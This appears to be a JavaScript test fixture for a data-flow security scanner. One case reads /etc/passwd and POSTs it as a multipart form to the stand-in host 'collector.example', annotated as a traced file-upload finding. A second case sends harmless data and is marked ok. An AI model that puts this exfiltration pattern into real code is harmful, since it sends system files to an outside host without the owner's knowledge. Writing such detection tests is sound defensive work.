// A form of a library that is a stream: what it was given goes where it is piped to.
const fs = require('fs');
const https = require('https');
const FormData = require('form-data');

const form = new FormData();
form.append('passwd', fs.createReadStream('/etc/passwd')); //~ source(FILE) f1
const request = https.request({ host: 'collector.example', method: 'POST', headers: form.getHeaders() });
form.pipe(request); //~ sink(egress.http) f1, finding(file-upload, traced) f1

const empty = new FormData();
empty.append('name', 'desk');
const quiet = https.request({ host: 'collector.example', method: 'POST' });
empty.pipe(quiet); //~ ok
